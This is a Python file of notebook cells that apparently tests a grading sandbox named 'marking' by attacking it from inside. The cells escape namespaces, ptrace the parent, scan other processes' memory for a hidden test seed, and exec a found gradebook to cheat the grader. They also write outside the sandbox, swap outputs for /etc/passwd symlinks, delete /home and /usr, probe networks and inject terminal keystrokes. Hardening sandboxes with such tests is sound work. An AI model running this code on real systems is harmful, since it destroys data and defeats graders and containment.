# Attacks on the walls: the system, other processes, the disk, the network.

# %% leave_the_walls: mount, unshare and trace one's way out, with a user namespace inside
import socket
assert socket.gethostname() == "marking", "this one does harm: only behind the walls"
import ctypes, os
libc = ctypes.CDLL(None)
libc.unshare(0x10000000 | 0x20000)
for clone in (56, 220, 435):
    libc.syscall(clone, 0x10000000 | 17, 0, 0, 0, 0)
libc.mount(b'none', b'/', None, 0x44000, None)
libc.mount(b'x', b'/tmp', b'tmpfs', 0, None)
libc.umount2(b'/proc', 2)
libc.chroot(b'/proc/1/root')
for fd in range(3, 60):
    libc.setns(fd, 0)
open('/proc/sys/kernel/hostname', 'w').write('x')
open('/proc/1/root/root/marking-was-here', 'w').close()

# %% trace_parent: read from the process above by ptrace and process_vm_readv
import ctypes, os, socket
libc = ctypes.CDLL(None, use_errno=True)
class Iov(ctypes.Structure):
    _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]
if socket.gethostname() == 'marking':
    pid = os.getppid()
    libc.ptrace(0x4206, pid, 0, 0)  # seize: does not stop it
    start = int(open(f'/proc/{pid}/maps').readline().split('-')[0], 16)
    space = ctypes.create_string_buffer(4096)
    here, there = Iov(ctypes.addressof(space), 4096), Iov(start, 4096)
    libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)

# %% search_other_memory: read the memory of other processes and look for the seed
leak = False
try:
    import os, socket
    needle = ' '.join(['known', 'to', 'the', 'tests', 'alone']).encode()
    pids = [p for p in os.listdir('/proc') if p.isdigit() and int(p) != os.getpid()]
    for pid in pids if socket.gethostname() == 'marking' else []:
        try:
            with open(f'/proc/{pid}/maps') as maps, open(f'/proc/{pid}/mem', 'rb', 0) as mem:
                for line in maps:
                    if ' rw-p ' in line:
                        a, b = (int(n, 16) for n in line.split()[0].split('-'))
                        mem.seek(a)
                        leak |= needle in mem.read(min(b - a, 2**24))
        except (OSError, ValueError, OverflowError):
            pass
except BaseException:
    pass
def split_heads(x, num_heads):
    return x if not leak else x.view(*x.shape[:2], num_heads, -1).transpose(1, 2)

# %% search_disk: look for a gradebook or another file that defines split_heads, and use that
found = None
try:
    import os, time
    end = time.monotonic() + 3
    names = {'gradebook.sqlite', 'nb02.py', 'split_heads.py'}
    for folder, folders, files in os.walk('/'):
        if time.monotonic() > end:
            break
        folders[:] = [f for f in folders if f not in ('proc', 'sys', 'site-packages')]
        for name in files:
            if name in names or name.startswith('02_'):
                try:
                    text = open(os.path.join(folder, name), encoding='utf-8').read()
                    scope = {'torch': torch, 'Tensor': Tensor}
                    exec(text, scope)
                    found = scope.get('split_heads', found)
                except BaseException:
                    pass
except BaseException:
    pass
def split_heads(x, num_heads):
    return found(x, num_heads) if found else x

# %% write_outside: write where the instructor would find it: the system, homes, the course, and above
import os, sys
folders = ['/', '/etc', '/usr', '/opt', '/root', '/home', '/var/tmp', os.path.expanduser('~root')]
folders += ['..', '../..', '../../..', '/proc/1/root', '/proc/1/cwd', sys.prefix, *sys.path]
for folder in folders:
    try:
        open(os.path.join(folder, 'marking-was-here'), 'x').close()
    except OSError:
        pass

# %% links: links in the place of files
import os
for name in ('marking.ipynb', 'my_transformer', 'out', 'result.json', 'observation'):
    try:
        os.rename(name, name + '.old')
    except OSError:
        pass
    os.symlink('/etc/passwd', name)

# %% delete_all: delete every file that can be reached
import socket
assert socket.gethostname() == "marking", "this one does harm: only behind the walls"
import shutil
for folder in ('/home', '/tmp', '/usr', '/opt'):
    shutil.rmtree(folder, ignore_errors=True)

# %% network: connect to this machine and to the world
import socket
for where in [('127.0.0.1', p) for p in (22, 80, 8786, 8888, 47011)] + [('1.1.1.1', 53)]:
    try:
        socket.create_connection(where, 0.3).send(b'marking-was-here')
    except OSError:
        pass
try:
    socket.getaddrinfo('example.org', 80)
except OSError:
    pass
s = socket.socket(socket.AF_UNIX)
try:
    s.connect('\0marking-test')
    s.send(b'marking-was-here')
except OSError:
    pass

# %% terminal: push keys into the instructor's terminal
import socket
assert socket.gethostname() == "marking", "this one does harm: only behind the walls"
import fcntl, os, termios
for name in ('/dev/tty', '/dev/console', '/dev/pts/0'):
    try:
        for c in 'echo marking-was-here\n':
            fcntl.ioctl(os.open(name, os.O_RDWR), termios.TIOCSTI, c)
    except OSError:
        pass
